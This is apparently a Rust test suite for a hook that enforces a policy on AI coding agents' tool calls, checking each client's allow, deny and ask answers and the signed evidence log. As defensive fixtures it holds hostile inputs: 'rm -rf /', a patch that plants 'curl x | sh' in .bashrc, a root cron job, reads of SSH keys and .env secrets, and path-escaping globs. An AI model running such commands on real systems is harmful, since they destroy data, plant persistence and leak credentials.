//! `lumenflow hook --client NAME` end to end, on payloads shaped as each client's
//! documentation and source give them (spec/hooks.md): what each answers, in its
//! blocking form on every failure, and what is recorded.

use serde_json::{json, Value};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

const POLICY: &str = r#"
version: 1
name: hooks-test
default: deny
on_error: deny
rules:
  - id: destructive-git
    effect: deny
    when: action.tool == "bash" && shell.invokes(action.args.command, ["git push --force|-f"])
    reason: destructive git command
  - id: network-needs-approval
    effect: require_approval
    when: action.tool == "bash" && shell.programs(action.args.command).exists(p, p in ["curl", "wget"])
    reason: network access from the shell
    approvers: ["role:lead"]
  - id: shell
    effect: allow
    when: action.tool == "bash"
  - id: credentials
    effect: deny
    when: action.tool in ["read", "write", "edit"] && path.matches(action.args.path, ["**/.env", "**/.ssh/**"])
    reason: credentials
  - id: edits-inside
    effect: allow
    when: action.tool in ["write", "edit"] && path.within(action.args.path, context.worktree)
    reason: edit inside the worktree
  - id: reads-inside
    effect: allow
    when: action.tool in ["read", "glob", "grep", "ls"] && path.within(action.args.path, context.worktree)
    reason: read inside the worktree
  - id: mcp-read
    effect: allow
    when: action.tool.startsWith("mcp__") && action.tool.endsWith("__search")
"#;

struct Env {
    dir: PathBuf,
    policy: PathBuf,
    key: PathBuf,
    ev: PathBuf,
    project: PathBuf,
}

fn setup(name: &str) -> Env {
    let dir = std::env::temp_dir().join(format!("lumenflow-hooks-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("project/src")).unwrap();
    let policy = dir.join("policy.yaml");
    std::fs::write(&policy, POLICY).unwrap();
    let key = dir.join("agent.key");
    let out = run(&["keygen", "--out", key.to_str().unwrap()], "", &[]);
    assert_eq!(out.status.code(), Some(0));
    Env {
        ev: dir.join("evidence"),
        project: dir.join("project"),
        dir,
        policy,
        key,
    }
}

fn run(args: &[&str], stdin: &str, env: &[(&str, &str)]) -> Output {
    run_bin(Path::new(env!("CARGO_BIN_EXE_lumenflow")), args, stdin, env)
}

fn run_bin(bin: &Path, args: &[&str], stdin: &str, env: &[(&str, &str)]) -> Output {
    let mut cmd = Command::new(bin);
    cmd.args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    for v in [
        "CLAUDE_PROJECT_DIR",
        "GEMINI_PROJECT_DIR",
        "CURSOR_PROJECT_DIR",
    ] {
        cmd.env_remove(v);
    }
    for (k, v) in env {
        cmd.env(k, v);
    }
    let mut child = cmd.spawn().unwrap();
    match child.stdin.take().unwrap().write_all(stdin.as_bytes()) {
        Err(e) if e.kind() == std::io::ErrorKind::BrokenPipe => {}
        r => r.unwrap(),
    }
    child.wait_with_output().unwrap()
}

impl Env {
    fn p(&self) -> &str {
        self.project.to_str().unwrap()
    }
    /// The hook for `client`, with policy and evidence.
    fn hook(&self, client: &str, event: &Value, env: &[(&str, &str)]) -> Output {
        run(
            &[
                "hook",
                "--client",
                client,
                "-p",
                self.policy.to_str().unwrap(),
                "--evidence",
                self.ev.to_str().unwrap(),
                "--key",
                self.key.to_str().unwrap(),
            ],
            &event.to_string(),
            env,
        )
    }
    fn claude(&self, event: &Value) -> Output {
        self.hook("claude-code", event, &[("CLAUDE_PROJECT_DIR", self.p())])
    }
    fn records(&self) -> Vec<Value> {
        let out = run(&["log", self.ev.to_str().unwrap(), "--json"], "", &[]);
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
        text(&out.stdout)
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }
    fn of_kind(&self, kind: &str) -> Vec<Value> {
        self.records()
            .into_iter()
            .filter(|r| r["kind"] == kind)
            .collect()
    }
    /// The outcome closing the decision whose action has `tool_use_id`.
    fn outcome_for(&self, tool_use_id: &str) -> Value {
        let recs = self.records();
        let d = recs
            .iter()
            .find(|r| {
                r["kind"] == "decision"
                    && r["body"]["action"]["metadata"]["tool_use_id"] == tool_use_id
            })
            .unwrap_or_else(|| panic!("no decision for {tool_use_id}"));
        let id = format!("{}:{}", d["stream"].as_str().unwrap(), d["seq"]);
        recs.into_iter()
            .find(|r| r["kind"] == "outcome" && r["body"]["decision"] == id.as_str())
            .unwrap_or_else(|| panic!("no outcome for {id}"))
    }
    fn verify(&self) {
        let pubkey = format!("{}.pub", self.key.display());
        let out = run(
            &["verify", self.ev.to_str().unwrap(), "--key", &pubkey],
            "",
            &[],
        );
        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stdout));
    }
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn answer(out: &Output) -> Value {
    assert_eq!(out.status.code(), Some(0), "stderr: {}", text(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {:?}", text(&out.stdout)))
}

fn permission(out: &Output) -> String {
    answer(out)["hookSpecificOutput"]["permissionDecision"]
        .as_str()
        .unwrap()
        .to_owned()
}

fn pre(session: &str, cwd: &str, tool: &str, input: Value, id: &str) -> Value {
    json!({
        "session_id": session, "transcript_path": "/home/u/.claude/projects/p/s.jsonl", "cwd": cwd,
        "permission_mode": "default", "hook_event_name": "PreToolUse",
        "tool_name": tool, "tool_input": input, "tool_use_id": id
    })
}

#[test]
fn claude_code_failures_and_successes_are_recorded_as_they_are() {
    let e = setup("claude-outcomes");
    let p = e.p().to_owned();
    // A failing Bash call: PostToolUseFailure carries the error.
    assert_eq!(
        permission(&e.claude(&pre(
            "s",
            &p,
            "Bash",
            json!({"command": "cargo test"}),
            "t-fail"
        ))),
        "allow"
    );
    let fail = json!({"session_id": "s", "cwd": p, "permission_mode": "default", "hook_event_name": "PostToolUseFailure",
        "tool_name": "Bash", "tool_input": {"command": "cargo test"}, "tool_use_id": "t-fail",
        "error": "Exit code 101\nerror: test failed", "is_interrupt": false});
    let out = e.claude(&fail);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let o = e.outcome_for("t-fail");
    assert_eq!(o["body"]["status"], "failure");
    assert!(o["body"]["error"]
        .as_str()
        .unwrap()
        .contains("Exit code 101"));
    // NotebookEdit reports success as "error": "".
    let nb = format!("{p}/analysis.ipynb");
    assert_eq!(
        permission(&e.claude(&pre("s", &p, "NotebookEdit", json!({"notebook_path": nb, "new_source": "x = 1", "cell_id": "c1", "edit_mode": "replace"}), "t-nb"))),
        "allow"
    );
    let post = json!({"session_id": "s", "cwd": p, "hook_event_name": "PostToolUse", "tool_name": "NotebookEdit",
        "tool_input": {"notebook_path": nb, "new_source": "x = 1", "cell_id": "c1"}, "tool_use_id": "t-nb",
        "tool_response": {"new_source": "x = 1", "cell_id": "c1", "cell_type": "code", "language": "python", "edit_mode": "replace", "error": ""}});
    assert_eq!(e.claude(&post).status.code(), Some(0));
    assert_eq!(e.outcome_for("t-nb")["body"]["status"], "success");
    // An error in PostToolUse's response is a failure.
    assert_eq!(
        permission(&e.claude(&pre(
            "s",
            &p,
            "Read",
            json!({"file_path": format!("{p}/src/gone.rs")}),
            "t-read"
        ))),
        "allow"
    );
    let post = json!({"session_id": "s", "hook_event_name": "PostToolUse", "tool_name": "Read", "tool_input": {"file_path": format!("{p}/src/gone.rs")},
        "tool_use_id": "t-read", "tool_response": {"error": "File does not exist."}});
    assert_eq!(e.claude(&post).status.code(), Some(0));
    assert_eq!(e.outcome_for("t-read")["body"]["status"], "failure");
    e.verify();
}

#[test]
fn claude_code_glob_pattern_cannot_read_outside() {
    let e = setup("claude-glob");
    let p = e.p().to_owned();
    let glob = |input: Value, id: &str| permission(&e.claude(&pre("s", &p, "Glob", input, id)));
    assert_eq!(glob(json!({"pattern": "src/**/*.rs"}), "g1"), "allow");
    // The attacks: an absolute pattern, a pattern climbing out, a `..` after `**`.
    assert_eq!(glob(json!({"pattern": "/etc/**/*.conf"}), "g2"), "deny");
    assert_eq!(
        glob(
            json!({"pattern": "../../../home/*/.ssh/*", "path": format!("{p}/src")}),
            "g3"
        ),
        "deny"
    );
    assert_eq!(glob(json!({"pattern": "**/../../*"}), "g4"), "deny");
    assert_eq!(
        glob(json!({"pattern": "*.rs", "path": "/etc"}), "g5"),
        "deny"
    );
}

#[test]
fn claude_code_worktree_is_the_project_not_the_cwd() {
    let e = setup("claude-worktree");
    let p = e.p().to_owned();
    // The agent ran `cd /tmp/elsewhere`: the event's cwd moved, the boundary must not.
    let outside = e.dir.join("elsewhere");
    let o = outside.to_str().unwrap();
    let w = |path: String, id: &str| {
        permission(&e.claude(&pre(
            "s",
            o,
            "Write",
            json!({"file_path": path, "content": "x"}),
            id,
        )))
    };
    assert_eq!(w(format!("{o}/evil.sh"), "w1"), "deny");
    assert_eq!(
        w("relative.txt".into(), "w2"),
        "deny",
        "a relative path is below the cwd, outside"
    );
    assert_eq!(w(format!("{p}/src/lib.rs"), "w3"), "allow");
    // The decision records the context it was made in.
    let d = e
        .of_kind("decision")
        .into_iter()
        .find(|r| r["body"]["action"]["metadata"]["tool_use_id"] == "w1")
        .unwrap();
    assert_eq!(d["body"]["context"]["worktree"], p.as_str());
    assert_eq!(d["body"]["context"]["cwd"], o);
    // Without a project directory the hook does not guess from the cwd: it blocks.
    let out = e.hook(
        "claude-code",
        &pre("s", &p, "Bash", json!({"command": "ls"}), "w4"),
        &[],
    );
    assert_eq!(permission(&out), "deny");
    assert!(
        answer(&out)["hookSpecificOutput"]["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .contains("CLAUDE_PROJECT_DIR")
    );
}

#[test]
fn claude_code_wrapper_blocks_when_lumenflow_cannot_run() {
    let wrapper =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/claude-code/lumenflow-hook.sh");
    let event = pre("s", "/w", "Bash", json!({"command": "rm -rf /"}), "t").to_string();
    let args = ["hook", "--client", "claude-code"];
    // Missing binary: 127 from a shell would not block; the wrapper exits 2.
    let out = run_bin(
        &wrapper,
        &args,
        &event,
        &[("LUMENFLOW_BIN", "/nonexistent/lumenflow")],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("not found"));
    // A binary that fails (here: `false`) blocks too.
    let out = run_bin(&wrapper, &args, &event, &[("LUMENFLOW_BIN", "false")]);
    assert_eq!(out.status.code(), Some(2));
    // The real binary passes through: its answer, exit 0.
    let out = run_bin(
        &wrapper,
        &["hook", "--client", "claude-code", "-p", "/nonexistent.yaml"],
        &event,
        &[
            ("LUMENFLOW_BIN", env!("CARGO_BIN_EXE_lumenflow")),
            ("CLAUDE_PROJECT_DIR", "/w"),
        ],
    );
    assert_eq!(permission(&out), "deny");
    // settings.json runs every hook through the wrapper.
    let settings = std::fs::read_to_string(
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/claude-code/settings.json"),
    )
    .unwrap();
    let v: Value = serde_json::from_str(&settings).unwrap();
    for ev in [
        "PreToolUse",
        "PostToolUse",
        "PostToolUseFailure",
        "PermissionDenied",
    ] {
        let cmd = v["hooks"][ev][0]["hooks"][0]["command"].as_str().unwrap();
        assert!(cmd.contains("lumenflow-hook.sh"), "{ev}: {cmd}");
    }
}

#[test]
fn malformed_events_are_denied_and_recorded() {
    let e = setup("malformed");
    for (client, input) in [
        ("claude-code", "not json"),
        (
            "claude-code",
            r#"{"hook_event_name":"PreToolUse","tool_input":{"command":"ls"}}"#,
        ),
        (
            "copilot",
            r#"{"timestamp":1,"cwd":"/w","toolName":"bash","toolArgs":"{\"command\": \"ls\""}"#,
        ),
        (
            "codex",
            r#"{"session_id":"s","cwd":"/w","hook_event_name":"PreToolUse","tool_name":"apply_patch","tool_input":{"command":"*** Begin Patch\n*** Add File: x\n+y\n"},"tool_use_id":"c"}"#,
        ),
        (
            "gemini",
            r#"{"hook_event_name":"BeforeTool","tool_name":"run_shell_command","tool_input":"ls"}"#,
        ),
        (
            "cursor",
            r#"{"hook_event_name":"beforeShellExecution","conversation_id":"c"}"#,
        ),
    ] {
        let out = run(
            &[
                "hook",
                "--client",
                client,
                "-p",
                e.policy.to_str().unwrap(),
                "--evidence",
                e.ev.to_str().unwrap(),
                "--key",
                e.key.to_str().unwrap(),
            ],
            input,
            &[],
        );
        let a = answer(&out);
        let blocked = a["hookSpecificOutput"]["permissionDecision"] == "deny"
            || a["permissionDecision"] == "deny"
            || a["permission"] == "deny"
            || a["decision"] == "deny";
        assert!(blocked, "{client} {input}: {a}");
    }
    let ds = e.of_kind("decision");
    assert_eq!(ds.len(), 6);
    for d in &ds {
        assert_eq!(d["body"]["decision"]["effect"], "deny");
        assert_eq!(d["body"]["decision"]["decided_by"], "invalid_input");
        let m = &d["body"]["action"]["metadata"];
        assert!(
            m["hook_error"].as_str().unwrap().starts_with("invalid"),
            "{m}"
        );
        assert!(m["input_digest"].as_str().unwrap().starts_with("sha256:"));
    }
    assert_eq!(e.of_kind("outcome").len(), 6, "each closed as denied");
    e.verify();
}

#[test]
fn outcomes_find_their_decision_through_the_call_index() {
    let e = setup("index");
    let p = e.p().to_owned();
    assert_eq!(
        permission(&e.claude(&pre("s", &p, "Bash", json!({"command": "ls"}), "t1"))),
        "allow"
    );
    let calls = e.ev.join("hooks/calls");
    let entries: Vec<_> = walk(&calls);
    assert_eq!(entries.len(), 1, "one entry for the open decision");
    let post = json!({"session_id": "s", "hook_event_name": "PostToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": "t1", "tool_response": {"stdout": "a", "stderr": "", "interrupted": false}});
    assert_eq!(e.claude(&post).status.code(), Some(0));
    assert!(walk(&calls).is_empty(), "closed: the entry is gone");
    assert_eq!(e.outcome_for("t1")["body"]["status"], "success");
    // The lookup is the index, not a scan of the log: without its entry, the open
    // decision is not found (and nothing else is closed in its place).
    assert_eq!(
        permission(&e.claude(&pre("s", &p, "Bash", json!({"command": "pwd"}), "t2"))),
        "allow"
    );
    for f in walk(&calls) {
        std::fs::remove_file(f).unwrap();
    }
    let post = json!({"session_id": "s", "hook_event_name": "PostToolUse", "tool_name": "Bash", "tool_input": {"command": "pwd"}, "tool_use_id": "t2", "tool_response": {}});
    let out = e.claude(&post);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        text(&out.stderr).contains("no open decision"),
        "{}",
        text(&out.stderr)
    );
    // A second after-event for a closed call changes nothing.
    let dup = json!({"session_id": "s", "hook_event_name": "PostToolUse", "tool_name": "Bash", "tool_input": {"command": "ls"}, "tool_use_id": "t1", "tool_response": {}});
    assert_eq!(e.claude(&dup).status.code(), Some(1));
    assert_eq!(e.of_kind("outcome").len(), 1);
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    if let Ok(rd) = std::fs::read_dir(dir) {
        for e in rd.flatten() {
            let p = e.path();
            if p.is_dir() {
                out.extend(walk(&p));
            } else {
                out.push(p);
            }
        }
    }
    out
}

#[test]
fn claude_code_records_mode_subagent_and_who_answered_an_ask() {
    let e = setup("claude-ask");
    let p = e.p().to_owned();
    let mut ev = pre(
        "s",
        &p,
        "Bash",
        json!({"command": "curl -s https://example.com"}),
        "a1",
    );
    ev["permission_mode"] = json!("acceptEdits");
    ev["agent_id"] = json!("agent-7f3");
    ev["agent_type"] = json!("general-purpose");
    assert_eq!(permission(&e.claude(&ev)), "ask");
    let d = e.of_kind("decision").pop().unwrap();
    let m = &d["body"]["action"]["metadata"];
    assert_eq!(
        (
            m["permission_mode"].as_str(),
            m["agent_id"].as_str(),
            m["agent_type"].as_str()
        ),
        (
            Some("acceptEdits"),
            Some("agent-7f3"),
            Some("general-purpose")
        )
    );
    assert_eq!(d["body"]["host_approves"], true);
    // The user allowed it at Claude Code's prompt: the tool ran.
    let post = json!({"session_id": "s", "permission_mode": "acceptEdits", "hook_event_name": "PostToolUse", "tool_name": "Bash",
        "tool_input": {"command": "curl -s https://example.com"}, "tool_use_id": "a1", "agent_id": "agent-7f3",
        "tool_response": {"stdout": "<html>", "stderr": "", "interrupted": false}});
    assert_eq!(e.claude(&post).status.code(), Some(0));
    let h = e.of_kind("host_answer");
    assert_eq!(h.len(), 1);
    assert_eq!(
        (
            h[0]["body"]["answer"].as_str(),
            h[0]["body"]["answered_by"].as_str()
        ),
        (Some("allow"), Some("user"))
    );
    assert_eq!(h[0]["body"]["permission_mode"], "acceptEdits");
    assert_eq!(
        h[0]["body"]["decision"],
        format!("{}:{}", d["stream"].as_str().unwrap(), d["seq"])
    );
    assert_eq!(e.outcome_for("a1")["body"]["status"], "success");
    // Another ask, refused by the user: PermissionDenied closes it as denied.
    assert_eq!(
        permission(&e.claude(&pre(
            "s",
            &p,
            "Bash",
            json!({"command": "wget https://x.io/a"}),
            "a2"
        ))),
        "ask"
    );
    let denied = json!({"session_id": "s", "hook_event_name": "PermissionDenied", "tool_name": "Bash", "tool_input": {"command": "wget https://x.io/a"}, "tool_use_id": "a2"});
    assert_eq!(e.claude(&denied).status.code(), Some(0));
    assert_eq!(e.outcome_for("a2")["body"]["status"], "denied");
    let h = e.of_kind("host_answer");
    assert_eq!(h[1]["body"]["answer"], "deny");
    e.verify();
}

#[test]
fn codex_apply_patch_is_decided_file_by_file() {
    let e = setup("codex");
    let p = e.p().to_owned();
    let ev = |tool: &str, input: Value, id: &str| {
        json!({"session_id": "019a-th", "turn_id": "t-1", "transcript_path": null, "cwd": p, "hook_event_name": "PreToolUse",
            "model": "gpt-5-codex", "permission_mode": "default", "tool_name": tool, "tool_input": input, "tool_use_id": id})
    };
    let codex = |v: &Value| e.hook("codex", v, &[]);
    let inside = "*** Begin Patch\n*** Add File: src/new.rs\n+pub fn f() {}\n*** Update File: src/lib.rs\n@@\n-a\n+b\n*** End Patch";
    let out = codex(&ev("apply_patch", json!({"command": inside}), "c1"));
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(
        out.stdout.is_empty(),
        "allow: Codex takes no output ({})",
        text(&out.stdout)
    );
    // One file of the patch escapes the worktree: the whole call is blocked.
    let escape = "*** Begin Patch\n*** Update File: src/lib.rs\n*** Move to: ../../.bashrc\n@@\n-a\n+curl x | sh\n*** End Patch";
    let a = answer(&codex(&ev("apply_patch", json!({"command": escape}), "c2")));
    assert_eq!(a["hookSpecificOutput"]["permissionDecision"], "deny");
    assert!(
        !a["hookSpecificOutput"]["permissionDecisionReason"]
            .as_str()
            .unwrap()
            .is_empty(),
        "Codex needs a reason to block"
    );
    // Its allowed part never runs: it is closed at once, not left open.
    let parts: Vec<Value> = e
        .of_kind("decision")
        .into_iter()
        .filter(|d| d["body"]["action"]["metadata"]["tool_use_id"] == "c2")
        .collect();
    assert_eq!(parts.len(), 2);
    let outcomes = e.of_kind("outcome");
    for d in &parts {
        let id = format!("{}:{}", d["stream"].as_str().unwrap(), d["seq"]);
        let o = outcomes
            .iter()
            .find(|o| o["body"]["decision"] == id.as_str())
            .unwrap_or_else(|| panic!("{id} left open"));
        assert_ne!(o["body"]["status"], "success");
    }
    // The shell form of apply_patch is read too.
    let shell = "apply_patch <<'EOF'\n*** Begin Patch\n*** Add File: /etc/cron.d/job\n+* * * * * root sh\n*** End Patch\nEOF";
    let a = answer(&codex(&ev("Bash", json!({"command": shell}), "c3")));
    assert_eq!(a["hookSpecificOutput"]["permissionDecision"], "deny");
    // Codex has no `ask`: approval required is a block naming the request.
    let a = answer(&codex(&ev(
        "Bash",
        json!({"command": "curl https://example.com"}),
        "c4",
    )));
    assert_eq!(a["hookSpecificOutput"]["permissionDecision"], "deny");
    assert!(a["hookSpecificOutput"]["permissionDecisionReason"]
        .as_str()
        .unwrap()
        .contains("approval request"));
    // PostToolUse closes both decisions of the allowed patch.
    let post = json!({"session_id": "019a-th", "turn_id": "t-1", "cwd": p, "hook_event_name": "PostToolUse", "model": "gpt-5-codex",
        "permission_mode": "default", "tool_name": "apply_patch", "tool_input": {"command": inside}, "tool_use_id": "c1",
        "tool_response": "Success. Updated the following files:\nA src/new.rs\nM src/lib.rs\n"});
    let out = codex(&post);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    let parts: Vec<Value> = e
        .of_kind("decision")
        .into_iter()
        .filter(|d| d["body"]["action"]["metadata"]["tool_use_id"] == "c1")
        .collect();
    assert_eq!(parts.len(), 2);
    let closed: Vec<Value> = e.of_kind("outcome");
    for d in &parts {
        let id = format!("{}:{}", d["stream"].as_str().unwrap(), d["seq"]);
        assert!(
            closed
                .iter()
                .any(|o| o["body"]["decision"] == id.as_str() && o["body"]["status"] == "success"),
            "{id}"
        );
    }
    e.verify();
}

#[test]
fn cursor_events_answer_cursor_permissions() {
    let e = setup("cursor");
    let p = e.p().to_owned();
    let base = |name: &str| json!({"hook_event_name": name, "conversation_id": "conv-1", "generation_id": "gen-1", "workspace_roots": [p], "model": "claude-4-sonnet", "cursor_version": "1.7.2"});
    let cursor = |v: &Value| answer(&e.hook("cursor", v, &[]));
    let mut sh = base("beforeShellExecution");
    sh["command"] = json!("git push -f origin main");
    sh["cwd"] = json!(p);
    let a = cursor(&sh);
    assert_eq!(a["permission"], "deny");
    assert!(a["agent_message"]
        .as_str()
        .unwrap()
        .contains("destructive git"));
    sh["command"] = json!("curl https://example.com");
    assert_eq!(cursor(&sh)["permission"], "ask");
    sh["command"] = json!("cargo build");
    assert_eq!(cursor(&sh)["permission"], "allow");
    let mut after = base("afterShellExecution");
    after["command"] = json!("cargo build");
    after["output"] = json!("Finished");
    after["duration"] = json!(1234);
    assert_eq!(cursor(&after), json!({}));
    let mut rf = base("beforeReadFile");
    rf["file_path"] = json!(format!("{p}/.env"));
    rf["content"] = json!("API_KEY=sk-live-123");
    rf["attachments"] = json!([]);
    assert_eq!(cursor(&rf)["permission"], "deny");
    let mut mcp = base("beforeMCPExecution");
    mcp["tool_name"] = json!("search");
    mcp["tool_input"] = json!("{\"query\":\"hooks\"}");
    mcp["url"] = json!("https://mcp.example.com/sse");
    assert_eq!(cursor(&mcp)["permission"], "allow");
    mcp["tool_name"] = json!("delete_repo");
    assert_eq!(cursor(&mcp)["permission"], "deny");
    let mut t = base("preToolUse");
    t["tool_name"] = json!("Write");
    t["tool_input"] = json!({"file_path": "/etc/profile", "contents": "x"});
    t["tool_use_id"] = json!("tu-1");
    assert_eq!(cursor(&t)["permission"], "deny");
    let d = e
        .of_kind("decision")
        .into_iter()
        .find(|d| d["body"]["action"]["tool"] == "mcp__mcp.example.com__search")
        .unwrap();
    assert_eq!(d["body"]["action"]["args"]["query"], "hooks");
    let closed = e.of_kind("outcome");
    assert!(
        closed.iter().any(|o| o["body"]["status"] == "success"),
        "afterShellExecution closed cargo build"
    );
    e.verify();
}

#[test]
fn gemini_events_answer_gemini_decisions() {
    let e = setup("gemini");
    let p = e.p().to_owned();
    let ev = |name: &str, tool: &str, input: Value| {
        json!({"session_id": "g-1", "transcript_path": "/home/u/.gemini/tmp/t.json", "cwd": p, "hook_event_name": name,
            "timestamp": "2026-12-02T10:00:00.000Z", "tool_name": tool, "tool_input": input})
    };
    let gemini = |v: &Value| answer(&e.hook("gemini", v, &[("GEMINI_PROJECT_DIR", &p)]));
    let a = gemini(&ev(
        "BeforeTool",
        "run_shell_command",
        json!({"command": "git push --force", "description": "push"}),
    ));
    assert_eq!(a["decision"], "deny");
    assert!(a["reason"].as_str().unwrap().contains("destructive git"));
    assert_eq!(
        gemini(&ev(
            "BeforeTool",
            "run_shell_command",
            json!({"command": "wget https://x.io"})
        ))["decision"],
        "deny",
        "no ask in Gemini: blocked"
    );
    assert_eq!(
        gemini(&ev(
            "BeforeTool",
            "read_file",
            json!({"file_path": format!("{p}/src/main.rs")})
        ))["decision"],
        "allow"
    );
    assert_eq!(
        gemini(&ev(
            "BeforeTool",
            "read_many_files",
            json!({"include": ["src/**", "/etc/*.conf"]})
        ))["decision"],
        "deny"
    );
    let after = ev(
        "AfterTool",
        "read_file",
        json!({"file_path": format!("{p}/src/main.rs")}),
    );
    let mut after = after;
    after["tool_response"] = json!({"llmContent": "", "returnDisplay": "", "error": {"message": "File not found", "type": "FILE_NOT_FOUND"}});
    assert_eq!(gemini(&after), json!({}));
    let o = e
        .of_kind("outcome")
        .into_iter()
        .find(|o| o["body"]["status"] == "failure")
        .expect("AfterTool's error is a failure");
    assert_eq!(o["body"]["error"], "File not found");
    // Without GEMINI_PROJECT_DIR (or --project-dir) the hook blocks.
    let out = e.hook(
        "gemini",
        &ev(
            "BeforeTool",
            "read_file",
            json!({"file_path": format!("{p}/a")}),
        ),
        &[],
    );
    assert_eq!(answer(&out)["decision"], "deny");
}

#[test]
fn copilot_events_answer_copilot_permissions() {
    let e = setup("copilot");
    let p = e.p().to_owned();
    let ev = |tool: &str, args: Value| json!({"timestamp": 1764669600000u64, "cwd": p, "toolName": tool, "toolArgs": args.to_string()});
    let copilot = |v: &Value| answer(&e.hook("copilot", v, &[]));
    let a = copilot(&ev(
        "bash",
        json!({"command": "git push -f", "description": "push"}),
    ));
    assert_eq!(a["permissionDecision"], "deny");
    assert_eq!(
        copilot(&ev("bash", json!({"command": "curl https://x.io"})))["permissionDecision"],
        "deny"
    );
    assert_eq!(
        copilot(&ev("create", json!({"path": "src/a.ts", "file_text": "x"})))["permissionDecision"],
        "allow"
    );
    assert_eq!(
        copilot(&ev("view", json!({"path": "/home/u/.ssh/id_ed25519"})))["permissionDecision"],
        "deny"
    );
    let mut post = ev("create", json!({"path": "src/a.ts", "file_text": "x"}));
    post["toolResult"] =
        json!({"resultType": "success", "textResultForLlm": "Created file src/a.ts"});
    let out = e.hook("copilot", &post, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
    assert!(e
        .of_kind("outcome")
        .iter()
        .any(|o| o["body"]["status"] == "success"));
    // The wrapper answers Copilot's deny itself when LumenFlow is missing.
    let wrapper =
        Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples/copilot/lumenflow-hook.sh");
    let out = run_bin(
        &wrapper,
        &["hook", "--client", "copilot"],
        &ev("bash", json!({"command": "ls"})).to_string(),
        &[("LUMENFLOW_BIN", "/nonexistent")],
    );
    assert_eq!(answer(&out)["permissionDecision"], "deny");
    e.verify();
}

#[test]
fn example_configurations_parse_and_call_the_hook() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("../examples");
    for (file, client) in [
        ("codex/hooks.json", "codex"),
        ("cursor/hooks.json", "cursor"),
        ("gemini/settings.json", "gemini"),
        ("copilot/lumenflow.json", "copilot"),
    ] {
        let t = std::fs::read_to_string(root.join(file)).unwrap_or_else(|e| panic!("{file}: {e}"));
        let v: Value = serde_json::from_str(&t).unwrap_or_else(|e| panic!("{file}: {e}"));
        assert!(t.contains(&format!("--client {client}")), "{file}");
        assert!(v["hooks"].is_object(), "{file}");
    }
}

#[test]
fn codex_approval_request_then_the_same_call_is_allowed_once() {
    let e = setup("codex-approve");
    let p = e.p().to_owned();
    let alice = e.dir.join("alice.key");
    assert_eq!(
        run(&["keygen", "--out", alice.to_str().unwrap()], "", &[])
            .status
            .code(),
        Some(0)
    );
    let alice_pub = std::fs::read_to_string(format!("{}.pub", alice.display())).unwrap();
    let reg = e.dir.join("approvers.yaml");
    let pem = alice_pub.trim().replace('\n', "\\n");
    std::fs::write(
        &reg,
        format!("version: 1\napprovers:\n  - {{id: alice, roles: [lead], keys: [\"{pem}\"]}}\n"),
    )
    .unwrap();
    let ev = |id: &str| {
        json!({"session_id": "th", "turn_id": "u", "cwd": p, "hook_event_name": "PreToolUse", "model": "gpt-5-codex",
            "permission_mode": "default", "tool_name": "Bash", "tool_input": {"command": "curl -sf https://example.com/health"}, "tool_use_id": id})
    };
    let hook = |v: &Value| {
        run(
            &[
                "--registry",
                reg.to_str().unwrap(),
                "hook",
                "--client",
                "codex",
                "-p",
                e.policy.to_str().unwrap(),
                "--evidence",
                e.ev.to_str().unwrap(),
                "--key",
                e.key.to_str().unwrap(),
            ],
            &v.to_string(),
            &[],
        )
    };
    let a = answer(&hook(&ev("c1")));
    let reason = a["hookSpecificOutput"]["permissionDecisionReason"]
        .as_str()
        .unwrap()
        .to_owned();
    let req = reason
        .split("approval request ")
        .nth(1)
        .unwrap()
        .split(' ')
        .next()
        .unwrap()
        .to_owned();
    let out = run(
        &[
            "approve",
            e.ev.to_str().unwrap(),
            &req,
            "--registry",
            reg.to_str().unwrap(),
            "--sign-key",
            alice.to_str().unwrap(),
            "--key",
            e.key.to_str().unwrap(),
            "--reason",
            "health check is fine",
        ],
        "",
        &[],
    );
    assert_eq!(
        out.status.code(),
        Some(0),
        "{}{}",
        text(&out.stdout),
        text(&out.stderr)
    );
    // The agent retries the same call (a new call id): allowed, once.
    let out = hook(&ev("c2"));
    assert_eq!(out.status.code(), Some(0));
    assert!(out.stdout.is_empty(), "allowed: {}", text(&out.stdout));
    let a = answer(&hook(&ev("c3")));
    assert_eq!(
        a["hookSpecificOutput"]["permissionDecision"], "deny",
        "the grant is used up"
    );
}
